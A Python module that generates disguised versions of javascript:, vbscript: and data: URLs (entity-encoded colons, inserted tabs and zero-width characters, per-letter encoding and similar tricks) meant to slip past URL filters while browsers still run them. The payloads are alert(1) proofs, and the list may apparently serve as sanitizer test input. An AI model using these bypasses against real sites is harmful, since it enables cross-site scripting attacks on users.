"""How a scheme that runs something may be written so that a filter does not know it and a browser does."""

SCRIPT = "javascript:alert(1)"
OTHERS = ["vbscript:alert(1)", "data:text/html,<b>x</b><script>alert(1)</script>"]


def inside(sign):
    """The sign after the fourth letter: browsers drop tabs and line breaks inside an address."""
    return lambda scheme: scheme[:4] + sign + scheme[4:]


def before(sign):
    return lambda scheme: sign + scheme


def colon(instead):
    return lambda scheme: scheme.replace(":", instead, 1)


def letters(form):
    """Every letter of the scheme as an entity, or percent-encoded."""
    return lambda scheme: "".join(form.format(ord(sign)) for sign in scheme.partition(":")[0]) + scheme[scheme.index(":") :]


DISGUISES = [
    str,
    str.upper,
    str.title,
    inside("\t"),
    inside("\n"),
    inside("&Tab;"),
    inside("&NewLine;"),
    inside("&#10;"),
    inside("&#x0000D;"),
    inside("\u200b"),
    inside("\u00ad"),
    inside("\\"),
    inside("<!-- -->"),
    before("\x01"),
    before("\u2028"),
    before("\u202e"),
    before(" &#14; "),
    before("https:"),
    before("x@"),
    colon("&colon;"),
    colon("&#58"),
    colon("&#x0003a;"),
    colon("\uff1a"),
    colon("%3A"),
    letters("&#{};"),
    letters("&#x{:x};"),
    letters("&#{:07d}"),
    letters("%{:x}"),
]
